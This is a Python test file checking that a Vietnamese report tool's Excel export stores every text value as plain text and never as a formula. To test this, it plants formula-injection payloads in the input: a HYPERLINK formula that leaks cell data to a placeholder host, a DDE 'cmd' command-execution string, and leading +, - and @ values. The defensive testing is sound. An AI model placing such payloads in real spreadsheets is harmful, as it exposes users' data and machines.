"""No formula in an exported sheet: every text of the data is a text cell (data_type "s"),
every number a number, whatever the text starts with."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from dispatch_gen import cli

HOSTILE = [
    '=HYPERLINK("http://x?leak="&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2",
    "@SUM(A1)",
]

VALID = Path(__file__).parent / "bad" / "hop-le.yaml"


def yaml_text() -> str:
    def q(text: str) -> str:
        return "'" + text.replace("'", "''") + "'"

    units = "".join(
        f"    - {{ten: {q(name)}, khoi: {q(HOSTILE[(i + 1) % 5])}, chi_tieu: {10 + i}, dat: {5 + i},"
        f" ghi_chu: {q(HOSTILE[(i + 2) % 5])}}}\n"
        for i, name in enumerate(HOSTILE)
    )
    text = VALID.read_text(encoding="utf-8")
    old_units = text[text.index("  don_vi:\n") : text.index("  khen:")]
    text = text.replace(old_units, "  don_vi:\n" + units)
    columns = (
        f"    cot:\n      - {{truong: tt, tieu_de: {q(HOSTILE[1])}}}\n"
        f"      - {{truong: ten, tieu_de: {q(HOSTILE[2])}}}\n"
        f"      - {{truong: khoi, tieu_de: {q(HOSTILE[3])}}}\n"
        f"      - {{truong: chi_tieu, tieu_de: {q(HOSTILE[4])}}}\n"
        "      - {truong: dat, tieu_de: Đạt}\n"
        "      - {truong: ty_le, tieu_de: Tỷ lệ}\n"
        "      - {truong: ghi_chu, tieu_de: Ghi chú}\n"
    )
    return text.replace("  - ten: KẾT QUẢ KẾT NẠP ĐẢNG VIÊN\n", f"  - ten: {q(HOSTILE[0])}\n" + columns)


def test_no_text_of_the_data_becomes_a_formula(tmp_path, capsys):
    src = tmp_path / "cv.yaml"
    src.write_text(yaml_text(), encoding="utf-8")
    xlsx = tmp_path / "pl.xlsx"
    rc = cli.main(["appendix", str(src), "-o", str(tmp_path / "pl.docx"), "--xlsx", str(xlsx)])
    assert rc == 0, capsys.readouterr().err
    wb = load_workbook(xlsx)  # formulas kept as written: a formula cell would read back as data_type "f"
    texts: list[str] = []
    numbers: list[float] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    texts.append(cell.value)
                elif cell.value is not None:
                    assert cell.data_type == "n", (cell.coordinate, cell.value)
                    numbers.append(cell.value)
    # every hostile text is there as typed: title, headings, names, groups, notes
    assert texts[0] == HOSTILE[0]  # the appendix title
    assert texts[1:5] == HOSTILE[1:5]  # the column headings it names
    for hostile in HOSTILE:
        assert texts.count(hostile) >= 3, hostile  # heading/title + name + group + note
    assert 10 in numbers and 14 in numbers and 5 in numbers  # quotas and achieved stay numbers
